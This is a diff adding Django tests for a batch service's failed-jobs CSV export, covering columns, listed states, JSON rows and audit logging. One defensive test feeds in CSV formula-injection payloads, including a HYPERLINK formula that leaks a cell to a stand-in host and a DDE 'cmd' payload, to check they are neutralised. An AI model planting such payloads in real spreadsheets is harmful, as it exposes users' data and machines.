@@ -14,10 +14,11 @@ from django.conf import settings
 from django.test import Client
 
 from batches import storage
-from batches.models import AuditEntry, Batch, Job, JobState
-from tests.factories import make_accepted_job, make_job, make_saved_job
+from batches.models import AuditEntry, Batch, BatchItem, Job, JobState
+from tests.factories import NOW, make_accepted_job, make_job, make_saved_job
 from tests.web.conftest import CASES
 from tests.web.stored import store_pdf
+from tests.web.test_new_batch import draft_of
 
 
 def archive_of(batch: Batch, client: Client) -> tuple[Any, zipfile.ZipFile]:
@@ -184,3 +185,96 @@ def test_a_store_that_is_away_is_told(batch: Batch, operator: Client, settings: 
     settings.STORAGE_URL = f"file://{in_the_way}/store"
     page = operator.get(f"/batches/{batch.public_id}/archive/", follow=True)
     assert "The files cannot be read at the moment." in page.text
+
+
+# --- failed.csv -----------------------------------------------------------------------------------------------------
+
+
+def failed_list(batch: Batch, client: Client) -> list[list[str]]:
+    answer = client.get(f"/batches/{batch.public_id}/failed.csv")
+    assert answer.status_code == 200
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    assert answer["Content-Disposition"].startswith("attachment;")
+    text = b"".join(answer.streaming_content).decode()
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+def given(job: Job, row: dict[str, Any]) -> None:
+    BatchItem.objects.filter(version=job.version).update(original_row=row)
+
+
+def test_the_failed_list_has_the_columns_as_given_and_ours_after_them(batch: Batch, operator: Client) -> None:
+    Batch.objects.update(report={"columns": ["zebra", "id", "_code", "amount"], "columns_are_all": True})
+    saved(batch, "INV-1", b"%PDF-1.7 one")
+    job = make_job(batch=batch, state=JobState.FAILED, failure_code="E7", failure_words="Too wide.")
+    given(job, {"zebra": "ž", "id": "INV-2", "_code": "old", "amount": 12.5})
+    head, *rows = failed_list(batch, operator)
+    assert head == ["zebra", "id", "amount", "_row", "_code", "_reason", "_attempts", "_last_state"]
+    assert rows == [["ž", "INV-2", "12.5", "1", "render_failed", "Too wide. (E7)", "0", "failed"]]
+    entry = AuditEntry.objects.get(action="download_failed_list")
+    assert (entry.actor_words, entry.subject) == ("m.okoye", f"batch {batch.public_id}")
+
+
+def test_the_failed_list_holds_what_needs_a_person_and_nothing_else(batch: Batch, operator: Client) -> None:
+    kept = [
+        make_job(batch=batch, state=state).version.document.business_id
+        for state in (JobState.FAILED, JobState.UNKNOWN, JobState.DEADLINE_EXCEEDED, JobState.EXPIRED)
+    ]
+    dismissed, cancelled = make_job(batch=batch, state=JobState.FAILED), make_job(batch=batch, state=JobState.FAILED)
+    BatchItem.objects.filter(version=dismissed.version).update(dismissed_at=NOW, dismissed_note="paid by hand")
+    BatchItem.objects.filter(version=cancelled.version).update(cancelled_at=NOW)
+    make_job(batch=batch)
+    make_accepted_job(batch=batch)
+    for item in BatchItem.objects.select_related("document"):
+        BatchItem.objects.filter(pk=item.pk).update(original_row={"id": item.document.business_id})
+    head, *rows = failed_list(batch, operator)
+    assert [row[head.index("id")] for row in rows] == kept
+    assert [row[head.index("_last_state")] for row in rows] == ["failed", "unknown", "deadline_exceeded", "expired"]
+
+
+def test_rows_of_json_may_each_have_their_own_columns(batch: Batch, operator: Client) -> None:
+    """As batches have them that were started before their columns were kept."""
+    given(make_job(batch=batch, state=JobState.FAILED), {"id": "A"})
+    given(make_job(batch=batch, state=JobState.FAILED), {"id": "B", "more": {"x": [1, None]}, "yes": True})
+    head, *rows = failed_list(batch, operator)
+    assert head[:3] == ["id", "more", "yes"]
+    assert [row[:3] for row in rows] == [["A", "", ""], ["B", '{"x": [1, null]}', "true"]]
+
+
+def test_nothing_in_the_failed_list_runs_as_a_formula(batch: Batch, operator: Client) -> None:
+    """Case 124. What is guarded is the text itself with one apostrophe before it."""
+    ids = [
+        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+        "@SUM(1+1)",
+        "+44-555-0102",
+        "-5",
+        "\t=1+1",
+        "'=quoted",
+    ]
+    for business_id in ids:
+        job = make_job(batch=batch, state=JobState.FAILED, failure_words="=cmd|' /C calc'!A0")
+        given(job, {"id": business_id, "n": -5, "=head": "x"})
+    head, *rows = failed_list(batch, operator)
+    cells = [cell for row in (head, *rows) for cell in row]
+    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "@") or cell[:1] in ("\t", "\r", "\n")]
+    assert [row[0].removeprefix("'") for row in rows[:5]] == ids[:5]
+    assert {row[1] for row in rows} == {"-5"}
+
+
+def test_a_batch_without_failures_has_a_list_of_its_columns_alone(batch: Batch, operator: Client) -> None:
+    Batch.objects.update(report={"columns": ["id"], "columns_are_all": True})
+    saved(batch, "INV-1", b"%PDF-1.7 one")
+    assert failed_list(batch, operator) == [["id", "_row", "_code", "_reason", "_attempts", "_last_state"]]
+
+
+def test_a_batch_keeps_the_order_of_its_columns(upload: Any, operator: Client) -> None:
+    answer = upload(
+        [
+            {"zeta": "1", "id": "A-1", "html_content": "<p>1</p>", "alpha": "2"},
+            {"id": "A-2", "html_content": "<p>2</p>", "b": 1},
+        ]
+    )
+    operator.post("/new/start/", {"draft": draft_of(answer)})
+    kept = [name for name in Batch.objects.get().report["columns"] if name != "html_content"]
+    assert kept == ["zeta", "id", "alpha", "b"]
